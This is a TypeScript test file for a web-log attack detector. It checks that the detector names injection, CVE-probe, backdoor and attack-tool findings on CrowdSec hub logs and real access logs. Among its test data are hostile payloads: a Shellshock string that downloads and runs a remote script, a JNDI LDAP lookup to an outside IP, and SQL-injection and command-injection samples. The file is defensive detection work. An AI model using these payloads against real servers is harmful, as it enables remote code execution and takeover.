// Every attacker-controlled field, on real lines: the CrowdSec hub's own attack tests
// and the shared real logs (../shared/data/real), parsed by the tool's own parsers.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import type { LogRecord } from '../../../src/types.js';
import { createIngestStats, readRecords } from '../../../src/ingest/read-records.js';
import { scanRequest } from '../../../src/detect/injection/scan-request.js';
import { describeFinding } from '../../../src/detect/injection/findings.js';

const HUB = '../shared/data/real/crowdsec-hub-tests';
const REAL = '../shared/data/real';

async function records(file: string): Promise<LogRecord[]> {
  const out: LogRecord[] = [];
  for await (const r of readRecords([file], {}, createIngestStats())) out.push(r);
  return out;
}

/** "class in field" sentences found on one record (two rules of one class in one field read the same). */
function described(record: LogRecord): string[] {
  return [...new Set(scanRequest(record)?.findings.map(describeFinding) ?? [])];
}

async function line(file: string, lineNumber: number): Promise<LogRecord> {
  const found = (await records(file)).find((r) => r.source.line === lineNumber);
  assert.ok(found, `${file}:${lineNumber} parses`);
  return found;
}

test('JNDI lookups in the User-Agent and in the Referer, nested obfuscation included (hub: log4j2 CVE-2021-44228)', async () => {
  const rs = await records(`${HUB}/apache_log4j2_cve-2021-44228/apache_log4j2_cve-2021-44228.log`);
  assert.deepEqual(described(rs[0]!), ['JNDI lookup in User-Agent']);
  // `${jndi:${lower:l}${lower:d}a${lower:p}://…}`
  assert.deepEqual(described(rs[1]!), ['JNDI lookup in User-Agent']);
  assert.deepEqual(described(rs[2]!), ['JNDI lookup in Referer']);
  assert.deepEqual(scanRequest(rs[2]!)?.findings.map((f) => [f.class, f.field.kind, f.rule]), [['jndi', 'referer', 'jndi-lookup']]);
});

test('attack tools named in the User-Agent (hub: Nikto over nginx and ALB, zgrab over Envoy)', async () => {
  for (const r of await records(`${HUB}/nginx-bad-user-agent/nginx-bad-user-agent.log`)) {
    assert.deepEqual(described(r), ['attack tool nikto in User-Agent']);
  }
  const alb = await records(`${HUB}/aws-alb-http-bad-user-agent/aws-alb-http-bad-user-agent.log`);
  assert.deepEqual(described(alb[0]!), [], 'curl is not an attack tool');
  assert.ok(alb.slice(1).every((r) => described(r).includes('attack tool nikto in User-Agent')));
  const envoy = await records(`${HUB}/envoy-http-bad-user-agent/envoy-http-bad-user-agent.log`);
  assert.ok(envoy.length > 0 && envoy.every((r) => described(r).includes('attack tool zgrab in User-Agent')));
});

test('PHP code injection is named as such, with its parameter (hub: ThinkPHP CVE-2018-20062; secrepo)', async () => {
  const [first] = await records(`${HUB}/thinkphp-cve-2018-20062/thinkphp-cve-2018-20062.log`);
  assert.ok(described(first!).includes('PHP code injection in query parameter `s`'), described(first!).join('; '));
  const r = await line(`${REAL}/secrepo-webhawk/access.log.2021-10-22`, 329);
  const classes = scanRequest(r)!.classes;
  assert.ok(classes.includes('code'));
  assert.ok(!classes.includes('xss'), '<?php is not XSS');
  assert.ok(described(r).includes('PHP code injection in query parameter `content`'));
});

test('a .env probe is a sensitive-file probe, not traversal (secrepo, hub)', async () => {
  const r = await line(`${REAL}/secrepo-webhawk/access.log.2021-10-22`, 29);
  assert.equal(r.path, '/.env');
  assert.deepEqual(scanRequest(r)?.classes, ['sensitive-file']);
  for (const hub of await records(`${HUB}/nginx-http-sensitive-files/nginx-http-sensitive-files.log`)) {
    assert.deepEqual(scanRequest(hub)?.classes, ['sensitive-file'], hub.path ?? '');
  }
});

test('webshell/backdoor probes by file name (hub: nginx-http-backdoor; secrepo 2021 lines 209-216)', async () => {
  const hub = await records(`${HUB}/nginx-http-backdoor/nginx-http-backdoor.log`);
  assert.equal(hub.length, 2);
  for (const r of hub) assert.deepEqual(described(r), ['webshell/backdoor probe in path'], r.path ?? '');
  // 44.195.86.98: eight upload-shell names in four seconds, all 404.
  const prober = (await records(`${REAL}/secrepo-webhawk/access.log.2021-10-22`)).filter((r) => r.client === '44.195.86.98');
  assert.deepEqual(prober.map((r) => r.source.line), [209, 210, 211, 212, 213, 214, 215, 216]);
  for (const r of prober) assert.ok(scanRequest(r)?.classes.includes('backdoor'), r.path ?? '');
  assert.deepEqual(scanRequest(prober.find((r) => r.path === '/ups.php')!)?.findings, [{ class: 'backdoor', field: { kind: 'path', name: null }, rule: 'backdoor-ups-php' }]);
  // A shell answered 200 is worse; a site's own upload.php answered 200 is its own page.
  assert.ok(scanRequest({ ...hub[0]!, status: 200 })?.classes.includes('backdoor'));
  assert.equal(scanRequest({ ...prober.find((r) => r.path === '/upload.php')!, status: 200 }), null);
});

test('known-CVE exploit probes, named by their CVE (hub: CVE scenarios and http-cve-probing)', async () => {
  const expected: [string, string[]][] = [
    ['CVE-2019-18935', ['cve-2019-18935']],
    ['CVE-2022-35914', ['cve-2022-35914']],
    ['CVE-2022-40684', ['cve-2022-40684']],
    ['CVE-2023-22515', ['cve-2023-22515']],
    ['CVE-2023-22518', ['cve-2023-22518']],
    ['CVE-2024-0012', ['cve-2024-0012']],
    ['CVE-2024-9474', ['cve-2024-9474']],
    ['CVE-2025-0108', ['cve-2025-0108']],
    ['cve-2023-49103', ['cve-2023-49103']],
    ['cve_2022_37042', ['cve-2022-37042']],
    ['http-cve-probing', ['cve-2020-27866', 'cve-2021-3129', 'cve-2021-36380']],
  ];
  for (const [test, rules] of expected) {
    const rs = await records(`${HUB}/${test}/${test}.log`);
    const found = new Set(rs.flatMap((r) => scanRequest(r)?.findings.filter((f) => f.class === 'cve-probe').map((f) => f.rule) ?? []));
    assert.deepEqual([...found].sort(), rules, test);
  }
  const ignition = (await records(`${HUB}/http-cve-probing/http-cve-probing.log`))[0]!;
  assert.ok(described(ignition).includes('exploit probe for CVE-2021-3129 in path'), described(ignition).join());
  // A product's own login page is a probe only where the site does not run the product (answered 4xx).
  const vpn = { ...ignition, path: '/global-protect/login.esp' };
  assert.deepEqual(scanRequest({ ...vpn, status: 404 })?.findings.filter((f) => f.class === 'cve-probe').map((f) => f.rule), ['cve-2024-3400']);
  assert.equal(scanRequest({ ...vpn, status: 200 }), null);
  // CVE-2024-4577: a soft hyphen (`%AD`) opening the query of a PHP-CGI request.
  assert.deepEqual(scanRequest({ ...ignition, path: '/index.php', query: '%ADd+allow_url_include%3d1', status: 200 })?.classes.includes('cve-probe'), true);
});

test('webshell upload handlers of web editors, answered 4xx (elastic-apache FCKeditor, iis-waikolai tinybrowser, secrepo 2022 CKEditor)', async () => {
  const elastic = await records(`${REAL}/elastic-apache/apache_logs.gz`);
  const fck = elastic.filter((r) => scanRequest(r)?.classes.some((c) => c === 'backdoor' || c === 'cve-probe'));
  // The only such lines of this blog's 10,000: one address's eight HEADs for FCKeditor under a post (lines 8,034-8,041).
  assert.deepEqual(fck.map((r) => r.source.line), [8034, 8035, 8036, 8037, 8038, 8039, 8040, 8041]);
  assert.ok(fck.every((r) => r.client === '91.236.75.25' && described(r).includes('webshell upload-handler probe in path')));
  const tiny = (await records(`${REAL}/iis-waikolai/u_ex101210.log`)).find((r) => r.source.line === 73)!;
  assert.deepEqual(scanRequest(tiny)?.findings.map((f) => f.rule), ['backdoor-upload-tinybrowser']);
  const ckeditor = await line(`${REAL}/secrepo-webhawk/access.log.2022-12-22`, 795);
  assert.ok(scanRequest(ckeditor)?.classes.includes('backdoor'));
  // A site that runs the editor serves its files to its authors: not a probe there.
  assert.equal(scanRequest({ ...tiny, status: 200 }), null);
});

test('no webshell/backdoor or CVE-probe finding on the benign real logs (netnea-labor07, nasa-http)', async () => {
  for (const file of [`${REAL}/netnea-labor07/labor-07-example-access.log.gz`, `${REAL}/nasa-http/NASA_access_log_Aug95`]) {
    const hits = (await records(file)).filter((r) => scanRequest(r)?.classes.some((c) => c === 'backdoor' || c === 'cve-probe'));
    assert.deepEqual(hits.map((r) => `${r.source.line} ${r.path}`), [], file);
  }
});

test('admin/CMS discovery counts only when the site answered 404 (elastic-apache)', async () => {
  const rs = await records(`${REAL}/elastic-apache/apache_logs.gz`);
  const probe = rs.find((r) => r.source.line === 379)!;
  assert.equal(probe.path, '/wp-login.php');
  assert.deepEqual(described(probe), ['admin/CMS discovery in path']);
  assert.equal(scanRequest({ ...probe, status: 200 }), null, 'a site that runs WordPress serves its login page');
});

/** Findings as distinct [class, field kind, field name] triples, for exact comparison. */
function where(record: LogRecord): [string, string, string | null][] {
  const seen = new Map<string, [string, string, string | null]>();
  for (const f of scanRequest(record)?.findings ?? []) seen.set(`${f.class} ${f.field.kind} ${f.field.name}`, [f.class, f.field.kind, f.field.name]);
  return [...seen.values()];
}

test('SQL injection and XSS in a query parameter (hub: sqli and xss probing)', async () => {
  const sqli = await records(`${HUB}/nginx-http-sqli-probing/nginx-http-sqli-probing.log`);
  assert.deepEqual(described(sqli[1]!), ['SQL injection in query parameter `a`']); // `a=%20union%20all%20select%20`
  // CrowdSec counts fragments in a bucket; alone, `upper(` or `md5(` is not an attack, the distinctive ones are.
  const flagged = sqli.filter((r) => scanRequest(r)?.classes.includes('sqli')).map((r) => decodeURIComponent(r.query!.slice(2)));
  assert.deepEqual(flagged, ['information_schema.tables', ' union all select ', ' union select ', ',null,null', 'benchmark(', 'load_file(', 'selectchar(', '||chr(', 'pg_sleep(', 'sleep(']);
  const xss = await records(`${HUB}/nginx-http-xss-probing/nginx-http-xss-probing.log`);
  assert.ok(xss.every((r) => scanRequest(r)?.classes.includes('xss')));
  assert.ok(described(xss[0]!).includes('XSS in query parameter `a`'));
});

test('path traversal in the path, double-encoded too (hub: nginx path traversal)', async () => {
  const rs = await records(`${HUB}/nginx-http-path-traversal/nginx-http-path-traversal.log`);
  assert.ok(rs.every((r) => scanRequest(r)?.classes.includes('traversal')), 'every line');
  const doubled = rs.find((r) => r.path === '/%252E%252E%252Ffoo1')!;
  assert.deepEqual(described(doubled), ['path traversal in path']);
});

test('command injection in a query parameter: ${IFS} and an unclosed glob `/tmp/*;wget` (hub: CVE-2022-44877, netgear)', async () => {
  const [, ifs] = await records(`${HUB}/CVE-2022-44877/CVE-2022-44877.log`);
  assert.deepEqual(where(ifs!).filter(([c]) => c === 'command'), [['command', 'query-value', 'login']]);
  const [netgear] = await records(`${HUB}/netgear_rce/netgear_rce.log`);
  assert.ok(described(netgear!).includes('command injection in query parameter `cmd`'));
});

test('expression injection: OGNL in the path, Commons Text interpolation in a parameter (hub: CVE-2022-26134, CVE-2022-42889)', async () => {
  const [ognl] = await records(`${HUB}/CVE-2022-26134/CVE-2022-26134.log`);
  assert.ok(described(ognl!).includes('template/expression injection in path'));
  assert.ok(described(ognl!).includes('code injection in path'), 'java.lang.Runtime');
  assert.ok(!described(ognl!).includes('PHP code injection in path'), 'getRuntime().exec( is Java, not PHP');
  for (const r of await records(`${HUB}/CVE-2022-42889/CVE-2022-42889.log`)) {
    assert.ok(described(r).includes('template/expression injection in query parameter `search`'), r.query ?? '');
  }
});

test('Spring4Shell class-loader manipulation is code injection in the parameter name (hub)', async () => {
  const rs = await records(`${HUB}/spring4shell_cve-2022-22965/spring4shell_cve-2022-22965.log`);
  assert.deepEqual(where(rs[1]!), [['code', 'query-name', 'class.module.classLoader.DefaultAsserti…']]);
  assert.ok(rs.every((r) => scanRequest(r)?.classes.includes('code')));
});

test('JNDI lookup in the User-Agent of an ALB line, beside a sensitive-file probe (hub: aws-alb-logs)', async () => {
  const r = await line(`${HUB}/aws-alb-logs/aws-alb-logs.log`, 5);
  assert.deepEqual(described(r), ['JNDI lookup in User-Agent', 'sensitive-file probe in path']);
});

test('a tool known by the path it asks for (hub: w00tw00t)', async () => {
  const [first] = await records(`${HUB}/nginx-http-w00twoot/nginx-http-w00twoot.log`);
  assert.deepEqual(described(first!), ["attack tool dfind's probe in path"]);
});

test('Shellshock in the User-Agent and in the Referer (no shared log holds one: a real elastic-apache line carrying the CVE-2014-6271 payload)', async () => {
  const rs = await records(`${REAL}/elastic-apache/apache_logs.gz`);
  const base = rs[0]!;
  assert.equal(scanRequest(base), null);
  const payload = "() { :;}; /bin/bash -c 'wget http://198.51.100.7/x.sh -O /tmp/x.sh; sh /tmp/x.sh'";
  assert.ok(described({ ...base, userAgent: payload }).includes('Shellshock in User-Agent'));
  assert.ok(described({ ...base, referer: payload }).includes('Shellshock in Referer'));
  // The CVE-2014-6278 variant.
  assert.ok(described({ ...base, userAgent: '() { _; } >_[$($())] { echo; id; }' }).includes('Shellshock in User-Agent'));
});

test('SQL injection in the Referer: a real ECShop exploit (secrepo-webhawk)', async () => {
  const r = await line(`${REAL}/secrepo-webhawk/access.log.2021-10-22`, 327);
  assert.ok(described(r).includes('SQL injection in Referer'), described(r).join('; '));
});

test('payloads in a Referer URL are named with its parameter (secrepo-webhawk)', async () => {
  const r = await line(`${REAL}/secrepo-webhawk/access.log.2021-10-22`, 324);
  assert.ok(described(r).includes('PHP code injection in Referer (its parameter `refiles[1]`)'), described(r).join('; '));
  assert.ok(described(r).includes('PHP code injection in query parameter `refiles[1]`'));
  assert.ok(!scanRequest(r)!.classes.includes('xss'), 'eval($_POST[x]) is PHP, not a JavaScript sink');
});

test('logged headers are read: Caddy, Kong and Traefik carry them, and real ones are clean', async () => {
  const caddy = await records(`${HUB}/caddy-logs/caddy-logs.log`);
  assert.ok(caddy.length > 0 && caddy.every((r) => (r.headers?.length ?? 0) > 0), 'Caddy logs its header map');
  const kong = await records('../shared/data/formats/kong-json.log');
  assert.ok(kong.some((r) => r.headers?.some((h) => h.name === 'content-type')));
  const traefik = await records(`${HUB}/traefik_json/traefik_json.log`);
  assert.ok(traefik.some((r) => r.headers?.some((h) => h.name === 'X-Forwarded-Host')), 'Traefik request_<Header> fields');
  // X-Forwarded-*, Accept: */*, Connection… are ordinary: no finding in any header of these real lines.
  for (const r of [...caddy, ...kong, ...traefik]) {
    assert.deepEqual(where(r).filter(([, kind]) => kind === 'header' || kind === 'cookie'), [], `${r.source.file}:${r.source.line}`);
  }
  // The User-Agent itself is never repeated as a header.
  assert.ok(caddy.every((r) => !r.headers!.some((h) => h.name.toLowerCase() === 'user-agent')));
});

test('a payload in a header or a cookie of a real Caddy line is named with the header or cookie', async () => {
  const [r] = await records(`${HUB}/caddy-logs/caddy-logs.log`);
  const jndi = '${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmwg}';
  const withHeader = { ...r!, headers: [...r!.headers!, { name: 'X-Api-Version', value: jndi }] };
  assert.deepEqual(described(withHeader), ['JNDI lookup in header `X-Api-Version`']);
  const withCookie = { ...r!, headers: [...r!.headers!, { name: 'Cookie', value: "_ga=GA1.2.3; session=x%27%20OR%201%3D1--" }] };
  assert.deepEqual(described(withCookie), ['SQL injection in cookie `session`']);
  assert.deepEqual(described({ ...r!, host: '${jndi:dns://x.example}' }), ['JNDI lookup in Host header']);
});

test('real agents, referers and hosts of elastic-apache raise nothing', async () => {
  const rs = await records(`${REAL}/elastic-apache/apache_logs.gz`);
  const inHeaders = rs.flatMap((r) => where(r).filter(([, kind]) => kind === 'user-agent' || kind === 'referer' || kind === 'host').map(() => r.source.line));
  assert.deepEqual(inHeaders, []);
});

test('technology probes from CrowdSec technology_probing.json, answered 403/404 (hub: http-technology-probing, sap-probing)', async () => {
  const tech = await records(`${HUB}/http-technology-probing/http-technology-probing.log`);
  const rulesOf = (r: LogRecord): string[] => scanRequest(r)?.findings.filter((f) => f.class === 'tech-probe').map((f) => f.rule) ?? [];
  // 10.0.0.1's camera CGI (404) and 10.0.0.2's AEM package manager (403), the two addresses the hub test expects.
  assert.deepEqual(rulesOf(tech[0]!), ['tech-acti-video-monitoring-panel']);
  assert.deepEqual(rulesOf(tech[1]!), ['tech-adobe-aem-crx-package-manager']);
  assert.deepEqual(described(tech[1]!), ['technology probe for adobe-aem-crx-package-manager in path']);
  // A path no product owns (/some/random/path) and the page the site served are not probes.
  assert.deepEqual(rulesOf(tech[2]!), []);
  assert.equal(scanRequest(tech[3]!), null);
  const sap = await records(`${HUB}/sap-probing/sap-probing.log`);
  assert.deepEqual(sap.map(rulesOf), [['tech-sap'], ['tech-sap-nwa']]);
  // A site that runs the product serves its pages: not a probe there (CrowdSec: 403/404 only).
  assert.equal(scanRequest({ ...sap[1]!, status: 200 }), null);
  assert.deepEqual(rulesOf({ ...sap[1]!, path: '/NWA' }), ['tech-sap-nwa'], 'case does not hide the product');
});

test('technology probes on the shared real logs: none on the benign blog, the Tomcat manager and SAP portal scans of iis-webknowit', async () => {
  const elastic = (await records(`${REAL}/elastic-apache/apache_logs.gz`)).filter((r) => scanRequest(r)?.classes.includes('tech-probe'));
  assert.deepEqual(elastic.map((r) => `${r.source.line} ${r.path}`), []);
  for (const file of [`${REAL}/netnea-labor07/labor-07-example-access.log.gz`, `${REAL}/nasa-http/NASA_access_log_Aug95`]) {
    const hits = (await records(file)).filter((r) => scanRequest(r)?.classes.includes('tech-probe'));
    assert.deepEqual(hits.map((r) => `${r.source.line} ${r.path}`), [], file);
  }
  const dir = `${REAL}/iis-webknowit`;
  const webknowit = (await Promise.all(readdirSync(dir).filter((f) => f.endsWith('.log')).map((f) => records(`${dir}/${f}`)))).flat();
  const probed = new Set(webknowit.flatMap((r) => scanRequest(r)?.findings.filter((f) => f.class === 'tech-probe').map((f) => f.rule) ?? []));
  assert.ok(probed.has('tech-apache-tomcat-manager-login'), [...probed].join());
  assert.ok(probed.has('tech-sap-netweaver-portal'), [...probed].join());
});

test('the request line: a CONNECT is an open-proxy probe, a version that does not exist a DoS tool (hub: nginx-http-open-proxy, http-dos-invalid-http-versions)', async () => {
  const proxy = await records(`${HUB}/nginx-http-open-proxy/nginx-http-open-proxy.log`);
  assert.equal(proxy[0]!.method, 'CONNECT');
  assert.deepEqual(described(proxy[0]!), ['open-proxy probe (CONNECT) in request line']);
  const versions = await records(`${HUB}/http-dos-invalid-http-versions/http-dos-invalid-http-versions.log`);
  assert.deepEqual(versions.map((r) => r.invalidProtocol ?? null), [null, null, 'HTTP/1.2', null, null, 'HTTP/2.1']);
  // Exactly the two addresses the hub test expects (127.0.0.3 and 127.0.0.6); HTTP/0.9, 1.0, 1.1 and 2.0 are real versions.
  const flagged = versions.filter((r) => scanRequest(r)?.classes.includes('protocol'));
  assert.deepEqual(flagged.map((r) => r.client), ['127.0.0.3', '127.0.0.6']);
  assert.deepEqual(described(flagged[0]!), ['invalid HTTP version in request line']);
  // No line of the shared real logs sends either.
  for (const file of [`${REAL}/elastic-apache/apache_logs.gz`, `${REAL}/netnea-labor07/labor-07-example-access.log.gz`, `${REAL}/logparser-hackers/hackers-access.log`]) {
    const hits = (await records(file)).filter((r) => scanRequest(r)?.classes.includes('protocol'));
    assert.deepEqual(hits.map((r) => r.source.line), [], file);
  }
});

test("CrowdSec's detection-test canary path names who tested (hub: http-generic-test)", async () => {
  const [canary] = await records(`${HUB}/http-generic-test/http-generic-test.log`);
  assert.deepEqual(scanRequest(canary!)?.findings.map((f) => f.rule), ['tool-path-crowdsec-detection-test']);
});

test('markup written as HTML entities across the query is read whole: XSS in the ZoneMinder log message (hub: zoneminder_cve-39285)', async () => {
  const post = await line(`${HUB}/zoneminder_cve-39285/zoneminder_cve-39285.log`, 4);
  // `&lt;/td&gt;&lt;/tr&gt;&lt;script src='…'&lt;/script&gt;`: split on `&`, no parameter holds a tag.
  assert.ok(post.query!.includes('&lt;script'));
  const found = scanRequest(post);
  assert.deepEqual(found?.classes, ['xss']);
  assert.deepEqual(described(post), ['XSS in query']);
  assert.ok(found!.decoded.includes("<script src='/zm/?view=options"), found!.decoded);
  // The same test's other requests (a stream view, an API login, the CSRF GET) carry no payload.
  const others = (await records(`${HUB}/zoneminder_cve-39285/zoneminder_cve-39285.log`)).filter((r) => r.source.line !== 4);
  assert.deepEqual(others.map((r) => scanRequest(r)), [null, null, null]);
});

test('PHP-CGI argument injection (CVE-2012-1823: a query of php\'s own -d switches) is PHP code injection, on iis-webknowit and never on the benign logs', async () => {
  const [line] = (await records(`${REAL}/iis-webknowit/u_ex160708.log`)).filter((r) => r.source.line === 29);
  assert.ok(scanRequest(line!)?.findings.some((f) => f.rule === 'code-php-cgi-args'));
  assert.ok(described(line!).includes('PHP code injection in query parameter name'), described(line!).join());
  for (const file of [`${REAL}/elastic-apache/apache_logs.gz`, `${REAL}/netnea-labor07/labor-07-example-access.log.gz`, `${REAL}/nasa-http/NASA_access_log_Aug95`]) {
    const hits = (await records(file)).filter((r) => scanRequest(r)?.findings.some((f) => f.rule === 'code-php-cgi-args'));
    assert.deepEqual(hits.map((r) => r.source.line), [], file);
  }
});

test('a guestbook spam tool\'s own report appended to the URL (XRumer: "Result: no post sending forms are found") names the tool, on iis-waikolai', async () => {
  const [line] = (await records(`${REAL}/iis-waikolai/u_ex101219.log`)).filter((r) => r.source.line === 15);
  assert.deepEqual(described(line!), ["attack tool xrumer's probe in path"]);
  const others = (await records(`${REAL}/iis-waikolai/u_ex101219.log`)).filter((r) => r.source.line !== 15 && scanRequest(r)?.findings.some((f) => f.rule === 'tool-path-xrumer'));
  assert.deepEqual(others.map((r) => r.source.line), []);
});
